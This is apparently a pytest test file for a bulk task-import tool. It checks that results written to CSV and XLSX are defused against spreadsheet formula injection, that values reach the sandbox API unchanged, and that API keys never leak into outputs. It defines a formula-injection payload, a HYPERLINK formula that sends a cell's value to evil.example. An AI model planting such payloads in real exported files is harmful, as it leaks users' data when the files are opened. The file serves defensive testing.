"""Files safe to open in a spreadsheet program; values sent as written; keys never written."""

from __future__ import annotations

import json
from pathlib import Path

import openpyxl
import pytest
from helpers import KEY, bulk_tasks, read_results

from bulk_tasks.results import Journal, Outcome, Status
from bulk_tasks.rows.inputs import open_table
from bulk_tasks.rows.safe_cells import RISKY_STARTS, defuse, restore
from bulk_tasks.sandbox import Sandbox, SandboxServer

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("start", RISKY_STARTS)
def test_a_risky_cell_gets_a_quote_and_comes_back_as_it_was(start: str) -> None:
    text = f"{start}1+1"
    assert defuse(text) == f"'{text}"
    assert restore(defuse(text)) == text


@pytest.mark.parametrize("text", ["", "plain", "'quoted by the user", "a=b", "lea_-x", "5-3"])
def test_other_cells_are_left_alone(text: str) -> None:
    assert defuse(text) == text
    assert restore(text) == text


def test_the_results_csv_defuses_and_reads_back_the_original(tmp_path: Path) -> None:
    from bulk_tasks.rows.inputs import Row

    path = tmp_path / "out.csv"
    journal = Journal(path, ["content", "Account"], destination="lemlist")
    journal.write(Row(2, (FORMULA, "@Acme")), Outcome(status=Status.CREATED), "f1")
    journal.close()
    raw = path.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in raw
    assert ",'@Acme" in raw
    [line] = read_results(path)
    assert (line["content"], line["Account"]) == (f"'{FORMULA}", "'@Acme")  # as a program sees it
    table = open_table(path)  # as bulk-tasks reads its own file back
    [row] = list(table.rows())
    assert row.cells[table.headers.index("content")] == FORMULA
    assert row.cells[table.headers.index("Account")] == "@Acme"


def write_attio(path: Path) -> Path:
    rows = [
        "content,linked_records,Account,Owner",
        f'"{FORMULA.replace(chr(34), chr(34) * 2)}",acme.com,@Acme,-Jane',
        "Plain task,globex.com,Globex,+Bob",
    ]
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


def test_values_are_sent_as_written_and_every_file_is_defused(tmp_path: Path) -> None:
    sandbox = Sandbox(keys={KEY})
    with SandboxServer(sandbox) as server:
        csv_results = tmp_path / "out.csv"
        xlsx_results = tmp_path / "out.xlsx"
        data = write_attio(tmp_path / "in.csv")
        for results in (csv_results, xlsx_results):
            ran = bulk_tasks(
                "run",
                data,
                "-t",
                "attio",
                "--base-url",
                server.url,
                "--results",
                results,
                "--ledger",
                "off",  # each file sends its rows, as a first run would
            )
            assert ran.code == 0, ran.stderr
        sent = [applied.body["data"]["content"] for applied in sandbox.applied]
        # exactly as the user wrote it (in the order the requests arrived)
        assert sorted(sent) == sorted([FORMULA, "Plain task"] * 2)
        raw = csv_results.read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK" in raw
        assert ",'@Acme," in raw
        assert ",'-Jane" in raw
        assert ",'+Bob" in raw
        sheet = openpyxl.load_workbook(xlsx_results).worksheets[0]
        header = [cell.value for cell in sheet[1]]
        # the line of input row 2, wherever it settled
        line = next(n for n in (2, 3) if sheet.cell(row=n, column=1).value == 2)
        cell = sheet.cell(row=line, column=header.index("content") + 1)
        assert (cell.value, cell.data_type) == (FORMULA, "s")  # text, never a formula
        owner = sheet.cell(row=line, column=header.index("Owner") + 1)
        assert (owner.value, owner.data_type) == ("-Jane", "s")

        # a file this tool wrote comes back as input: the original values are sent again
        again = bulk_tasks(
            "run",
            csv_results,
            "-t",
            "attio",
            "--base-url",
            server.url,
            "--results",
            tmp_path / "again.csv",
            "--ledger",
            "off",
        )
        assert again.code == 0, again.stderr
        again_sent = [a.body["data"]["content"] for a in sandbox.applied][-2:]
        assert sorted(again_sent) == sorted([FORMULA, "Plain task"])


def test_no_key_appears_in_anything_written_or_printed(tmp_path: Path) -> None:
    sandbox = Sandbox(keys={KEY})
    outputs: list[str] = []
    files: list[Path] = []
    inputs = {
        "lemlist": "leadId,type,assignedTo,dueDate\nlea_zUwSUPSxozD9fLVGw,phone,"
        "usr_7YzNqVRMCfdeHEzMn,2026-12-01\n",
        "saleshandy": "prospectIds,taskType\nA1 B2,13\n",
        "attio": "content,linked_records\nCall,acme.com\n",
    }
    with SandboxServer(sandbox) as server:
        for vendor, text in inputs.items():
            data = tmp_path / f"{vendor}.csv"
            data.write_text(text, encoding="utf-8")
            sent = ("run", data, "-t", vendor, "--base-url", server.url)
            for suffix in (".csv", ".jsonl", ".xlsx"):
                results = tmp_path / f"{vendor}-out{suffix}"
                ran = bulk_tasks(
                    *sent,
                    "--results",
                    results,
                    # each file creates its rows, and the ledger is among the files read below
                    "--ledger",
                    tmp_path / "ledger.sqlite3",
                    "--create-again",
                )
                assert ran.code == 0, ran.stderr
                outputs += [ran.stdout, ran.stderr]
                files.append(results)
            refused = bulk_tasks(
                *sent,
                "--results",
                tmp_path / f"{vendor}-refused.csv",
                key=f"{KEY}-wrong",
            )
            assert refused.code == 2
            outputs += [refused.stdout, refused.stderr]
            files.append(tmp_path / f"{vendor}-refused.csv")
    assert len(sandbox.applied) == 3 * (1 + 2 + 1)
    for vendor in inputs:  # reconcile settles one input's files at a time
        csv_results = [tmp_path / f"{vendor}-out.csv", tmp_path / f"{vendor}-refused.csv"]
        settled = bulk_tasks(
            "reconcile",
            *csv_results,
            "--failed-out",
            tmp_path / f"{vendor}-failed.xlsx",
            "--report",
            tmp_path / f"{vendor}-report.xlsx",
        )
        assert settled.code == 0  # lines refused in one run were done in another: done wins
        lines = "2 lines" if vendor == "saleshandy" else "1 line"
        assert settled.stdout.startswith(f"reconcile: 2 files, {lines}\n")
        outputs += [settled.stdout, settled.stderr]
    written = [path.read_bytes() for path in tmp_path.iterdir() if path.is_file()]
    for secret in (KEY, f"{KEY}-wrong"):
        assert all(secret not in output for output in outputs)
        assert all(secret.encode() not in content for content in written)
    for path in files:  # and each results file says what happened, so the grep read real files
        if path.suffix == ".jsonl":
            assert json.loads(path.read_text(encoding="utf-8").splitlines()[0])["status"]
        elif path.suffix == ".csv":
            assert read_results(path)[0]["status"] in ("created", "not_sent")
